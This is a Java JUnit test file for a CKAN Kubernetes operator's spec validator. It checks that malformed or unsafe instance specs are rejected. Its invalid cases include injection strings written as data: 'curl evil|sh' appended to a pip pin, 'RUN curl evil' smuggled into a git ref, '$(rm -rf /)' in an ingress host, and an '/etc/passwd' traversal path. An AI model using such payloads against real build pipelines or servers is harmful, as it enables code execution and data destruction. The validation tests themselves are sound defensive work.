package io.ckan.operator.release;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.ckan.operator.api.CkanInstanceSpec;
import io.ckan.operator.api.ExtensionSpec;
import io.ckan.operator.api.GitSource;
import io.ckan.operator.api.ImageSpec;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class SpecValidatorTest {

  static CkanInstanceSpec valid() {
    CkanInstanceSpec spec = new CkanInstanceSpec();
    spec.version = "2.11.5";
    spec.extensions = new ArrayList<>(List.of(pip("dcat", "ckanext-dcat==2.4.4", "dcat", "structured_data"),
        git("harvest", "https://github.com/ckan/ckanext-harvest", "v1.6.3", "harvest")));
    spec.plugins = new ArrayList<>(List.of("activity", "dcat", "harvest"));
    spec.config = new LinkedHashMap<>();
    spec.config.put("ckan.site_url", "https://data.example.org");
    spec.image = new ImageSpec();
    spec.image.prebuilt = "registry.example.org/ckan@sha256:" + "a".repeat(64);
    spec.services = io.ckan.operator.TestServices.external();
    return spec;
  }

  static ExtensionSpec pip(String name, String pin, String... plugins) {
    ExtensionSpec e = new ExtensionSpec();
    e.name = name;
    e.pip = pin;
    e.plugins = List.of(plugins);
    return e;
  }

  static ExtensionSpec git(String name, String url, String ref, String... plugins) {
    ExtensionSpec e = new ExtensionSpec();
    e.name = name;
    e.git = new GitSource();
    e.git.url = url;
    e.git.ref = ref;
    e.plugins = List.of(plugins);
    return e;
  }

  @Test
  void aValidSpecHasNoErrors() {
    assertEquals(List.of(), SpecValidator.validate(valid()));
  }

  static Stream<Arguments> invalid() {
    return Stream.of(
        Arguments.of("version missing", (Consumer<CkanInstanceSpec>) s -> s.version = null, "spec.version"),
        Arguments.of("version not X.Y.Z", (Consumer<CkanInstanceSpec>) s -> s.version = "2.11", "spec.version"),
        Arguments.of("unpinned pip", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).pip = "ckanext-dcat>=2",
            "spec.extensions[0].pip"),
        Arguments.of("pip injection", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).pip =
            "ckanext-dcat==2.4.4; curl evil|sh", "spec.extensions[0].pip"),
        Arguments.of("http git url", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).git.url =
            "http://github.com/ckan/ckanext-harvest", "spec.extensions[1].git.url"),
        Arguments.of("git ref injection", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).git.ref =
            "v1.6.3\nRUN curl evil", "spec.extensions[1].git.ref"),
        Arguments.of("git ref traversal", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).git.ref = "a/../b",
            "spec.extensions[1].git.ref"),
        Arguments.of("both sources", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).git =
            s.extensions.get(1).git, "spec.extensions[0]"),
        Arguments.of("no source", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).pip = null,
            "spec.extensions[0]"),
        Arguments.of("duplicate names", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).name = "dcat",
            "spec.extensions[1].name"),
        Arguments.of("unpinned constraint", (Consumer<CkanInstanceSpec>) s -> s.constraints =
            List.of("rdflib==7.1.4", "requests>=2"), "spec.constraints[1]"),
        Arguments.of("one project pinned twice, spelled differently", (Consumer<CkanInstanceSpec>) s -> s.constraints =
            List.of("Flask_Babel==4.0.0", "flask-babel==3.1.0"), "spec.constraints[1]"),
        Arguments.of("constraints without extensions", (Consumer<CkanInstanceSpec>) s -> {
          s.extensions = null;
          s.plugins = null;
          s.constraints = List.of("rdflib==7.1.4");
        }, "spec.constraints"),
        Arguments.of("requirements traversal", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).requirementsFile =
            "../../etc/passwd", "spec.extensions[1].requirementsFile"),
        Arguments.of("unknown plugin", (Consumer<CkanInstanceSpec>) s -> s.plugins.add("spatial_metadata"),
            "spec.plugins[3]"),
        Arguments.of("repeated plugin", (Consumer<CkanInstanceSpec>) s -> s.plugins.add("dcat"), "spec.plugins[3]"),
        Arguments.of("prebuilt by tag", (Consumer<CkanInstanceSpec>) s -> s.image.prebuilt =
            "registry.example.org/ckan:2.11.5", "spec.image.prebuilt"),
        Arguments.of("secret in config", (Consumer<CkanInstanceSpec>) s -> s.config.put("beaker.session.secret", "x"),
            "spec.config[beaker.session.secret]"),
        Arguments.of("db url in config", (Consumer<CkanInstanceSpec>) s -> s.config.put("sqlalchemy.url",
            "postgresql://u:p@db/ckan"), "spec.config[sqlalchemy.url]"),
        Arguments.of("plugins in config", (Consumer<CkanInstanceSpec>) s -> s.config.put("ckan.plugins", "x"),
            "spec.config[ckan.plugins]"),
        Arguments.of("bad config key", (Consumer<CkanInstanceSpec>) s -> s.config.put("CKAN SITE", "x"),
            "spec.config[CKAN SITE]"),
        Arguments.of("config value longer than the CRD's maxLength", (Consumer<CkanInstanceSpec>) s ->
            s.config.put("ckan.site_about", "x".repeat(8193)), "spec.config[ckan.site_about]"),
        Arguments.of("negative replicas", (Consumer<CkanInstanceSpec>) s -> s.replicas = -1, "spec.replicas"),
        Arguments.of("requirements for pip", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).requirementsFile =
            "requirements.txt", "spec.extensions[0].requirementsFile"),
        Arguments.of("two git sources, one project", (Consumer<CkanInstanceSpec>) s -> s.extensions.add(
            git("harvest2", "https://gitlab.example.org/fork/ckanext-harvest.git", "v1.6.2", "harvest2")),
            "spec.extensions[2].git.url"),
        Arguments.of("services without a database", (Consumer<CkanInstanceSpec>) s -> {
          s.services = new io.ckan.operator.api.ServicesSpec();
          s.services.solrUrl = "http://solr:8983/solr/ckan";
          s.services.redisUrl = new io.ckan.operator.api.SecretKeyRef("r", "url");
        }, "spec.services.databaseUrl"),
        Arguments.of("solr url with credentials", (Consumer<CkanInstanceSpec>) s -> {
          s.services = new io.ckan.operator.api.ServicesSpec();
          s.services.managed = true;
          s.services.solrUrl = "http://admin:pw@solr:8983/solr/ckan";
        }, "spec.services.solrUrl"),
        Arguments.of("secret ref key", (Consumer<CkanInstanceSpec>) s -> {
          s.services = new io.ckan.operator.api.ServicesSpec();
          s.services.managed = true;
          s.services.databaseUrl = new io.ckan.operator.api.SecretKeyRef("db", "url with space");
        }, "spec.services.databaseUrl.key"),
        Arguments.of("option in config and secretConfig", (Consumer<CkanInstanceSpec>) s -> {
          s.config.put("ckan.auth.public_user_details", "false");
          var o = new io.ckan.operator.api.SecretOption();
          o.option = "ckan.auth.public_user_details";
          o.secretKeyRef = new io.ckan.operator.api.SecretKeyRef("x", "y");
          s.secretConfig = new ArrayList<>(List.of(o));
        }, "spec.secretConfig[0].option"),
        // finding 3 of the real-CKAN run: without a database CKAN falls back to the ini's localhost default
        Arguments.of("no database", (Consumer<CkanInstanceSpec>) s -> s.services = null, "spec.services"),
        Arguments.of("external services without a database", (Consumer<CkanInstanceSpec>) s ->
            s.services.databaseUrl = null, "spec.services.databaseUrl"),
        Arguments.of("one JWT secret without the other", (Consumer<CkanInstanceSpec>) s -> {
          var o = new io.ckan.operator.api.SecretOption();
          o.option = "api_token.jwt.encode.secret";
          o.secretKeyRef = new io.ckan.operator.api.SecretKeyRef("x", "jwt");
          s.secretConfig = new ArrayList<>(List.of(o));
        }, "spec.secretConfig"),
        Arguments.of("registry with tag", (Consumer<CkanInstanceSpec>) s -> {
          s.build = new io.ckan.operator.api.BuildSpec();
          s.build.registry = "registry.example.org/ckan:latest";
        }, "spec.build.registry"),
        // finding 4 of issue 9: constraints of the CRD the validator did not check
        Arguments.of("ingress host with a shell word", (Consumer<CkanInstanceSpec>) s -> s.ingress =
            ingress("data.example.org;$(rm -rf /)"), "spec.ingress.host"),
        Arguments.of("ingress without a host", (Consumer<CkanInstanceSpec>) s -> s.ingress = ingress(null),
            "spec.ingress.host"),
        Arguments.of("ingress TLS Secret in capitals", (Consumer<CkanInstanceSpec>) s -> {
          s.ingress = ingress("data.example.org");
          s.ingress.tlsSecretName = "Data-TLS";
        }, "spec.ingress.tlsSecretName"),
        Arguments.of("storage size in words", (Consumer<CkanInstanceSpec>) s -> s.storage = storage("20 GB"),
            "spec.storage.size"),
        Arguments.of("storage without a size", (Consumer<CkanInstanceSpec>) s -> s.storage = storage(null),
            "spec.storage.size"),
        Arguments.of("worker queue with a newline", (Consumer<CkanInstanceSpec>) s -> s.workers =
            workers(1, List.of("default\nbulk")), "spec.workers.queues[0]"),
        Arguments.of("21 worker queues", (Consumer<CkanInstanceSpec>) s -> s.workers = workers(1,
            java.util.stream.IntStream.range(0, 21).mapToObj(i -> "q" + i).toList()), "spec.workers.queues"),
        Arguments.of("101 worker replicas", (Consumer<CkanInstanceSpec>) s -> s.workers = workers(101, null),
            "spec.workers.replicas"),
        Arguments.of("a bake over a day", (Consumer<CkanInstanceSpec>) s -> rollout(s).bakeSeconds = 86401,
            "spec.rollout.bakeSeconds"),
        Arguments.of("a deadline over a day", (Consumer<CkanInstanceSpec>) s ->
            rollout(s).progressDeadlineSeconds = 86401, "spec.rollout.progressDeadlineSeconds"),
        Arguments.of("101 retained revisions", (Consumer<CkanInstanceSpec>) s -> rollout(s).revisionHistoryLimit = 101,
            "spec.rollout.revisionHistoryLimit"),
        Arguments.of("101 plugins", (Consumer<CkanInstanceSpec>) s -> {
          while (s.plugins.size() < 101) {
            s.plugins.add("activity");
          }
        }, "spec.plugins"),
        Arguments.of("51 extensions", (Consumer<CkanInstanceSpec>) s -> {
          while (s.extensions.size() < 51) {
            s.extensions.add(pip("x" + s.extensions.size(), "ckanext-x==1.0"));
          }
        }, "spec.extensions"),
        Arguments.of("201 config options", (Consumer<CkanInstanceSpec>) s -> {
          while (s.config.size() < 201) {
            s.config.put("ckanext.option_" + s.config.size(), "x");
          }
        }, "spec.config"),
        Arguments.of("secretConfig without its secretKeyRef", (Consumer<CkanInstanceSpec>) s ->
            s.secretConfig = new ArrayList<>(List.of(secretOption("smtp.password", null))),
            "spec.secretConfig[0].secretKeyRef"),
        Arguments.of("secretConfig option in capitals", (Consumer<CkanInstanceSpec>) s ->
            s.secretConfig = new ArrayList<>(List.of(secretOption("SMTP.PASSWORD",
                new io.ckan.operator.api.SecretKeyRef("mail", "password")))), "spec.secretConfig[0].option"));
  }

  static io.ckan.operator.api.IngressSpec ingress(String host) {
    var ingress = new io.ckan.operator.api.IngressSpec();
    ingress.host = host;
    return ingress;
  }

  static io.ckan.operator.api.StorageSpec storage(String size) {
    var storage = new io.ckan.operator.api.StorageSpec();
    storage.size = size;
    return storage;
  }

  static io.ckan.operator.api.WorkersSpec workers(int replicas, List<String> queues) {
    var workers = new io.ckan.operator.api.WorkersSpec();
    workers.replicas = replicas;
    workers.queues = queues;
    return workers;
  }

  static io.ckan.operator.api.RolloutSpec rollout(CkanInstanceSpec spec) {
    spec.rollout = new io.ckan.operator.api.RolloutSpec();
    return spec.rollout;
  }

  static io.ckan.operator.api.SecretOption secretOption(String option, io.ckan.operator.api.SecretKeyRef ref) {
    var o = new io.ckan.operator.api.SecretOption();
    o.option = option;
    o.secretKeyRef = ref;
    return o;
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("invalid")
  void namesTheOffendingField(String what, Consumer<CkanInstanceSpec> breakIt, String field) {
    CkanInstanceSpec spec = valid();
    breakIt.accept(spec);
    List<FieldError> errors = SpecValidator.validate(spec);
    assertTrue(errors.stream().anyMatch(e -> e.field().equals(field)), what + ": " + errors);
    assertTrue(ReleaseFactory.from(spec) instanceof ReleaseOutcome.Invalid);
  }

  /** Finding 1 and 2 of issue 9: names the operator cannot use for a Service, or that are another's object names. */
  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
      my.portal | DNS-1035 label
      1portal | DNS-1035 label
      Portal | e.g. 'portal'
      portal- | DNS-1035 label
      "" | is required
      aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | longer than 40
      a-r1 | instance 'a' names its revision Deployment, Service and ConfigMap 'a-r1'
      a-r12-worker | instance 'a' names its revision worker Deployment 'a-r12-worker'
      a-r3-migrate | instance 'a' names its revision migration Job 'a-r3-migrate'
      x-db | names ending in -db are reserved: instance 'x' names its managed PostgreSQL 'x-db'
      x-db-init | instance 'x' names its managed PostgreSQL's init script ConfigMap 'x-db-init'
      x-solr | instance 'x' names its managed Solr 'x-solr'
      x-redis | instance 'x' names its managed Redis 'x-redis'
      x-storage | instance 'x' names its uploads PersistentVolumeClaim 'x-storage'
      x-keys | instance 'x' names its generated keys Secret 'x-keys'
      x-services | instance 'x' names its managed services' credentials Secret 'x-services'
      ckan-build-0123456789ab | names starting with ckan-build- are reserved
      """)
  void refusesInstanceNamesTheOperatorCannotNameObjectsAfter(String name, String why) {
    ReleaseOutcome.Invalid invalid = assertInstanceOf(ReleaseOutcome.Invalid.class, ReleaseFactory.from(valid(), name));
    assertTrue(invalid.errors().stream().anyMatch(e -> e.field().equals("metadata.name") && e.message().contains(why)),
        invalid.errors().toString());
  }

  @ParameterizedTest
  @ValueSource(strings = {"portal", "a", "data-portal-2", "ckan-build", "portal-r", "portal-rx", "portal-dbs",
      "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"})
  void acceptsOtherInstanceNames(String name) {
    assertEquals(List.of(), SpecValidator.validate(name, valid()));
  }

  /** Finding 3 of issue 9: a password in a URL would land in a ConfigMap, the image or a status message. */
  @ParameterizedTest(name = "{0} = {1}")
  @CsvSource(delimiter = '|', textBlock = """
      ckanext.xloader.jobs_db.uri | postgresql://user:password@host/db | spec.secretConfig
      ckanext.spatial.solr_url | http://admin:password@solr:8983/solr | spec.secretConfig
      ckanext.custom.redis | redis://:password@redis:6379/0 | spec.secretConfig
      solrUrl | http://admin:password@solr:8983/solr/ckan | spec.services.solrUser and solrPassword
      git.url | https://user:password@github.com/ckan/ckanext-harvest | spec.image.prebuilt
      """)
  void refusesPasswordsInUrlsAndNeverQuotesThem(String field, String url, String remedy) {
    CkanInstanceSpec spec = valid();
    String path = switch (field) {
      case "solrUrl" -> {
        spec.services.solrUrl = url;
        yield "spec.services.solrUrl";
      }
      case "git.url" -> {
        spec.extensions.get(1).git.url = url;
        yield "spec.extensions[1].git.url";
      }
      default -> {
        spec.config.put(field, url);
        yield "spec.config[" + field + "]";
      }
    };
    List<FieldError> errors = SpecValidator.validate(spec);
    assertTrue(errors.stream().anyMatch(e -> e.field().equals(path) && e.message().contains(remedy)), errors.toString());
    assertTrue(errors.stream().noneMatch(e -> e.message().contains("password@")), "quotes the password: " + errors);
  }

  @ParameterizedTest
  @ValueSource(strings = {"https://data.example.org:8443/catalog", "https://reader@example.org/feed",
      "Write to admin@example.org: we answer", "http://solr:8983/solr/ckan"})
  void acceptsConfigValuesWithoutAPassword(String value) {
    CkanInstanceSpec spec = valid();
    spec.config.put("ckanext.example.link", value);
    assertEquals(List.of(), SpecValidator.validate(spec));
  }

  /** Finding 4 of issue 9: the model reads an enum as exactly as the CRD's enum admits it (Jackson trims by default). */
  @ParameterizedTest
  @ValueSource(strings = {"{\"build\": {\"builder\": \"buildah \"}}", "{\"storage\": {\"size\": \"1Gi\", "
      + "\"accessMode\": \" ReadWriteOnce\"}}"})
  void enumsAreReadExactly(String spec) {
    assertThrows(io.fabric8.kubernetes.client.KubernetesClientException.class, () ->
        io.fabric8.kubernetes.client.utils.Serialization.unmarshal(spec, CkanInstanceSpec.class));
  }
}
